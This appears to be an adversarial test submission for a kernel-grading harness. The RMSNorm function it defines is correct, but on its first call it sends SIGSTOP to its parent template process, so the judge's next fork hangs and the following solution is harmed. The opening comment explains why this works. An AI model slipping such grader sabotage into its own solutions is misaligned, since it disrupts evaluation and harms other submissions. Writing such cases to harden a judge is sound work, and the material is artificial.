# Poisoning the next solution through a signal (want: the next solution unharmed). The
# kernel is honest, but in its first call it stops (SIGSTOP) its parent: the template
# process every solution's process is forked from. Signals need no capability between
# processes of one user, and the template is not in the solution's process group. The
# judge's next fork request then waits forever for a pid.
import os
import signal

import torch

_done = []


def run(x, weight):
    if not _done:
        _done.append(True)
        os.kill(os.getppid(), signal.SIGSTOP)
    return x * torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-6) * weight
